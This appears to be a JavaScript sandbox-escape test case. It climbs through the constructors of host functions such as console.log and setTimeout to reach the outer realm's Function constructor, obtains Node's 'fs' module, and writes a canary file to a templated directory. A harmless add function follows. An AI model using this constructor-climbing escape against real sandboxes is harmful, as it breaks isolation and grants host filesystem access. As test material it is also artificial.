// Climbs from every function it was given to the global object of its owner.
const { writeFileSync } = (() => {
  for (const start of [console.log, setTimeout, queueMicrotask, Math.random, (async () => {}).constructor, function* () {}.constructor]) {
    try {
      const fs = start.constructor("return typeof process === 'object' && process.getBuiltinModule('fs')")();
      if (fs) return fs;
    } catch {}
  }
  return {};
})();
writeFileSync("@CANARY_DIR@/j57", "out");
function add(a, b) {
  return a + b;
}
